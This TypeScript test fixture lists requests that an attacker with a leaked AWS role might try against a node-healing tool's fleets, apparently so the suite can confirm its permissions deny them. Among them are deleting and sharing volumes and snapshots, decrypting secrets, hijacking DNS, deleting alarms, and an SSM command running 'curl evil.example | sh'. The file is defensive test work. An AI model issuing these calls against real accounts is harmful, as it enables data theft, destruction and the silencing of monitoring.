// The requests that an attacker with a leaked role would send, beyond the role's purpose. Each gets newly made resources.
import type { Region } from '../../../local/region.ts';
import type { Deployed } from './stacks.ts';

type Tags = Readonly<Record<string, string>>;

export interface Want {
  readonly name: string;
  readonly request: (place: Deployed) => {
    readonly service: string;
    readonly operation: string;
    readonly input: object;
  };
}

let made = 20_000;
const STRANGE = { Component: 'payroll' };
/** The tags of another of the five fleets. */
const OTHERS = { Service: 'stacks-follower' };
const KEPT = { 'chainmend:keep-until': '2020-01-01T00:00:00Z', 'chainmend:retired': '2020-01-01T00:00:00Z' };

const node = ({ region }: Deployed, tags: Tags, state: 'running' | 'stopped' = 'running'): string => {
  made++;
  return region.ec2.addInstance({ privateIp: `10.0.${(made >> 8) & 63}.${made & 255}`, tags, state });
};
const volume = ({ region }: Deployed, tags: Tags, instanceId?: string): string =>
  region.ec2.addVolume({
    sizeGiB: 10,
    tags,
    ...(instanceId !== undefined && { attachedTo: { instanceId, device: '/dev/sdf' } }),
  });
const snapshot = (place: Deployed, tags: Tags): string =>
  place.region.ec2.addSnapshot({ volumeId: volume(place, {}), tags });
const ours = ({ fleet, tags }: Deployed): Tags => ({ ...tags, 'chainmend:fleet': fleet });

const ec2 = (name: string, operation: string, input: (place: Deployed) => object): Want => ({
  name,
  request: (place) => ({ service: 'ec2', operation, input: input(place) }),
});
const tagging = (name: string, what: (place: Deployed) => string, tags: Tags, operation = 'CreateTags'): Want =>
  ec2(name, operation, (place) => ({
    Resources: [what(place)],
    Tags: Object.entries(tags).map(([Key, Value]) => ({ Key, Value })),
  }));
const put = (name: string, parameter: string): Want => ({
  name,
  request: () => ({
    service: 'ssm',
    operation: 'PutParameter',
    input: { Name: parameter, Value: 'off', Overwrite: true },
  }),
});
const command = (name: string, document: (region: Region) => string, tags: (place: Deployed) => Tags): Want => ({
  name,
  request: (place) => ({
    service: 'ssm',
    operation: 'SendCommand',
    input: {
      DocumentName: document(place.region),
      InstanceIds: [node(place, tags(place))],
      Parameters: { commands: ['curl evil.example | sh'] },
    },
  }),
});
const record = (name: string, change: object): Want => ({
  name,
  request: () => ({
    service: 'route53',
    operation: 'ChangeResourceRecordSets',
    input: { HostedZoneId: 'Z0123456789ABCDEFGHIJ', ChangeBatch: { Changes: [change] } },
  }),
});
const set = (Name: string, Type = 'A') => ({
  ResourceRecordSet: { Name, Type, TTL: 60, ResourceRecords: [{ Value: '10.6.6.6' }] },
});
const item = (name: string, operation: string, input: object): Want => ({
  name,
  request: () => ({ service: 'dynamodb', operation, input: { TableName: 'chainmend', ...input } }),
});
const key = (pk: string) => ({ pk: { S: pk }, sk: { S: 'x' } });

export const WANTS: readonly Want[] = [
  ec2('delete a volume that a node uses', 'DeleteVolume', (place) => ({ VolumeId: volume(place, ours(place)) })),
  ec2('delete what heals have put away', 'DeleteVolume', (place) => ({
    VolumeId: volume(place, { ...ours(place), ...KEPT }),
  })),
  ec2('delete a stranger’s volume', 'DeleteVolume', (place) => ({ VolumeId: volume(place, STRANGE) })),
  ec2('terminate a node', 'TerminateInstances', (place) => ({ InstanceIds: [node(place, ours(place))] })),
  ec2('terminate what heals have put away', 'TerminateInstances', (place) => ({
    InstanceIds: [node(place, { ...ours(place), ...KEPT }, 'stopped')],
  })),
  ec2('delete a clean snapshot', 'DeleteSnapshot', (place) => ({
    SnapshotId: snapshot(place, { ...ours(place), 'chainmend:set': 's1' }),
  })),
  ec2('delete a snapshot of a lifecycle policy', 'DeleteSnapshot', (place) => ({
    SnapshotId: snapshot(place, { ...ours(place), 'aws:dlm:lifecycle-policy-id': 'policy-0123456789abcdef0' }),
  })),
  ec2('share a snapshot with another account', 'ModifySnapshotAttribute', (place) => ({
    SnapshotId: snapshot(place, ours(place)),
    CreateVolumePermission: { Add: [{ UserId: '999988887777' }] },
  })),
  ec2('copy a snapshot', 'CopySnapshot', (place) => ({
    SourceSnapshotId: snapshot(place, ours(place)),
    SourceRegion: 'eu-west-1',
  })),
  ec2('read a fleet’s data on an instance of one’s own making', 'AttachVolume', (place) => ({
    VolumeId: volume(place, ours(place)),
    InstanceId: node(place, ours(place)),
    Device: '/dev/sdg',
  })),
  ec2('read a stranger’s volume on a node', 'AttachVolume', (place) => ({
    VolumeId: volume(place, STRANGE),
    InstanceId: node(place, ours(place)),
    Device: '/dev/sdg',
  })),
  ec2('carry a fleet’s volume to a stranger’s instance', 'AttachVolume', (place) => ({
    VolumeId: volume(place, ours(place)),
    InstanceId: node(place, STRANGE),
    Device: '/dev/sdg',
  })),
  ec2('restore a stranger’s snapshot', 'CreateVolume', (place) => ({
    AvailabilityZone: 'eu-west-1a',
    SnapshotId: snapshot(place, STRANGE),
    TagSpecifications: [{ ResourceType: 'volume', Tags: [{ Key: 'chainmend:fleet', Value: place.fleet }] }],
  })),
  ec2('pull a volume off a running node', 'DetachVolume', (place) => {
    const InstanceId = node(place, ours(place));
    return { VolumeId: volume(place, ours(place), InstanceId), InstanceId, Force: true };
  }),
  ec2('stop a node', 'StopInstances', (place) => ({ InstanceIds: [node(place, ours(place))] })),
  ec2('start a stopped node', 'StartInstances', (place) => ({ InstanceIds: [node(place, ours(place), 'stopped')] })),
  ec2('stop a stranger’s instance', 'StopInstances', (place) => ({ InstanceIds: [node(place, STRANGE)] })),
  ec2('grow a fleet’s volume to 16 TB', 'ModifyVolume', (place) => ({
    VolumeId: volume(place, ours(place)),
    Size: 16_000,
  })),
  ec2('give a node user data', 'ModifyInstanceAttribute', (place) => ({
    InstanceId: node(place, ours(place), 'stopped'),
    UserData: { Value: Buffer.from('#!/bin/sh\n') },
  })),
  ec2('put a node into another security group', 'ModifyInstanceAttribute', (place) => ({
    InstanceId: node(place, ours(place)),
    Groups: ['sg-0bad0bad0bad0bad0'],
  })),
  ec2('launch an instance without a template', 'RunInstances', (place) => ({
    ImageId: 'ami-0bad0bad0bad0bad0',
    MinCount: 1,
    MaxCount: 1,
    TagSpecifications: ['instance', 'volume'].map((ResourceType) => ({
      ResourceType,
      Tags: [{ Key: 'chainmend:fleet', Value: place.fleet }],
    })),
  })),
  tagging(
    'take a pause off a node',
    (place) => node(place, { ...ours(place), 'chainmend:pause': 'mine' }),
    { 'chainmend:pause': 'mine' },
    'DeleteTags',
  ),
  tagging('make a stranger’s volume a fleet’s', (place) => volume(place, STRANGE), { 'chainmend:fleet': 'bitcoin' }),
  tagging('make a stranger’s volume one that may be attached', (place) => volume(place, STRANGE), {
    'chainmend:root': 'bitcoin',
  }),
  tagging('make a node’s volume one that may be attached', (place) => volume(place, ours(place)), {
    'chainmend:root': 'bitcoin',
  }),
  tagging('say that a fleet’s volume is put away', (place) => volume(place, ours(place)), KEPT),
  tagging('say that a running client had ended', (place) => snapshot(place, ours(place)), {
    'chainmend:clean-stop': 'true',
  }),
  tagging('say that a snapshot is verified', (place) => snapshot(place, ours(place)), {
    'chainmend:verified': '2026-01-01',
  }),
  // From one fleet to another.
  tagging('make a fleet’s volume another fleet’s by its name', (place) => volume(place, ours(place)), {
    'chainmend:fleet': 'stacks',
  }),
  tagging('make a fleet’s volume another fleet’s by its tags', (place) => volume(place, ours(place)), OTHERS),
  tagging('retire a validator', (place) => node(place, { Project: 'irita', 'chainmend:fleet': 'irita' }), KEPT),
  ec2('attach one fleet’s volume to another fleet’s node', 'AttachVolume', (place) => ({
    VolumeId: volume(place, ours(place)),
    InstanceId: node(place, OTHERS),
    Device: '/dev/sdg',
  })),
  ec2('restore one fleet’s snapshot as another fleet’s volume', 'CreateVolume', (place) => ({
    AvailabilityZone: 'eu-west-1a',
    SnapshotId: snapshot(place, ours(place)),
    TagSpecifications: [{ ResourceType: 'volume', Tags: [{ Key: 'chainmend:fleet', Value: 'stacks' }] }],
  })),
  ec2('take a person’s lock off a snapshot with a tag of ours', 'UnlockSnapshot', (place) => ({
    SnapshotId: snapshot(place, { ...STRANGE, 'chainmend:locked-by': 'x' }),
  })),
  {
    name: 'delete a document that nodes run',
    request: ({ region }) => ({
      service: 'ssm',
      operation: 'DeleteDocument',
      input: { Name: region.ssm.documents()[0] ?? '' },
    }),
  },
  {
    name: 'overwrite an alarm that begins as ours do',
    request: () => ({
      service: 'monitoring',
      operation: 'PutMetricAlarm',
      input: {
        ...{ AlarmName: 'chainmend-payroll', Namespace: 'payroll', MetricName: 'Salaries', Statistic: 'Maximum' },
        ...{ Period: 60, EvaluationPeriods: 1, Threshold: 0, ComparisonOperator: 'GreaterThanThreshold' },
      },
    }),
  },
  ec2('lock a snapshot for a hundred years', 'LockSnapshot', (place) => ({
    SnapshotId: snapshot(place, { ...ours(place), 'chainmend:held-by': 'x' }),
    LockMode: 'governance',
    LockDuration: 36_500,
  })),
  ec2('take a person’s lock off', 'UnlockSnapshot', (place) => ({ SnapshotId: snapshot(place, ours(place)) })),
  put('turn a pause off', '/chainmend/pause'),
  put('write a fleet file', '/chainmend/fleets/bitcoin'),
  {
    name: 'read a secret parameter of others',
    request: () => ({
      service: 'ssm',
      operation: 'GetParameters',
      input: { Names: ['/payroll/password'], WithDecryption: true },
    }),
  },
  command('run a shell on a node', () => 'AWS-RunShellScript', ours),
  command(
    'run a document of the suite on a stranger’s instance',
    (region) => region.ssm.documents()[0] ?? '',
    () => STRANGE,
  ),
  item('read the whole table', 'Scan', {}),
  item('delete from the journal', 'DeleteItem', { Key: key('JOURNAL#bitcoin#replace-node') }),
  item('write an incident', 'PutItem', { Item: key('INCIDENT#bitcoin#replace-node') }),
  item('write what nodes are said to be', 'PutItem', { Item: key('FLEET#bitcoin#watch-fleet') }),
  item('write that a thing was put away', 'PutItem', { Item: key('KEPT#bitcoin') }),
  item('write a partition that is nobody’s', 'PutItem', { Item: key('PAYROLL') }),
  {
    name: 'decrypt with any key',
    request: () => ({
      service: 'kms',
      operation: 'Decrypt',
      input: { KeyId: '0a1b2c3d-0000-4000-8000-00000000beef', CiphertextBlob: new Uint8Array([1]) },
    }),
  },
  record('point a name of another zone at oneself', { Action: 'CREATE', ...set('payroll.example') }),
  record('overwrite a name of a fleet', { Action: 'UPSERT', ...set('node1.bitcoin.internal') }),
  record('point a name of a fleet at oneself', { Action: 'CREATE', ...set('evil.bitcoin.internal') }),
  {
    name: 'publish to a topic of others',
    request: () => ({
      service: 'sns',
      operation: 'Publish',
      input: { TopicArn: 'arn:aws:sns:eu-west-1:111122223333:payroll', Message: 'x' },
    }),
  },
  {
    name: 'delete an alarm of others',
    request: () => ({ service: 'monitoring', operation: 'DeleteAlarms', input: { AlarmNames: ['payroll'] } }),
  },
  {
    name: 'silence an alarm of the suite',
    request: () => ({
      service: 'monitoring',
      operation: 'DeleteAlarms',
      input: { AlarmNames: ['chainmend/sweeps-missing'] },
    }),
  },
  {
    name: 'forge metrics of others',
    request: () => ({
      service: 'monitoring',
      operation: 'PutMetricData',
      input: { Namespace: 'CWAgent', MetricData: [{ MetricName: 'disk_used_percent', Value: 99 }] },
    }),
  },
  {
    name: 'start a heal',
    request: () => ({
      service: 'lambda',
      operation: 'Invoke',
      input: { FunctionName: 'chainmend-replace-node:live', InvocationType: 'Event' },
    }),
  },
  {
    name: 'ask the dispatcher for a restore',
    request: () => ({
      service: 'lambda',
      operation: 'Invoke',
      input: { FunctionName: 'chainmend-dispatch-heal', InvocationType: 'Event' },
    }),
  },
  {
    name: 'invoke a function of others',
    request: () => ({ service: 'lambda', operation: 'Invoke', input: { FunctionName: 'payroll' } }),
  },
  {
    name: 'read what failed',
    request: () => ({
      service: 'sqs',
      operation: 'ReceiveMessage',
      input: { QueueUrl: 'https://sqs.eu-west-1.amazonaws.com/111122223333/chainmend-undelivered' },
    }),
  },
];
